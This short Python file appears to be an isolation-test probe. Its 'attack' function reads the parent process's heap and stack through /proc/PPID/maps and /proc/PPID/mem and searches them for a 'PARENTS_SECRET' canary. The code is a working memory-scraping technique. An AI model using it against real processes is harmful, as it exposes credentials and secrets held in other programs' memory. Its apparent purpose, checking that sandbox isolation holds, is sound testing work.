"""The parent's heap, by /proc/PPID/maps and mem."""

import os


def attack(event):
    place = "/proc/%d" % os.getppid()
    with open(place + "/maps") as maps:
        ranges = [line.split()[0] for line in maps if "[heap]" in line or "[stack]" in line]
    with open(place + "/mem", "rb", buffering=0) as memory:
        for one in ranges:
            low, high = (int(end, 16) for end in one.split("-"))
            memory.seek(low)
            if b"PARENTS_SECRET" in memory.read(high - low):
                return "found PARENTS_SECRET"
    return "nothing"
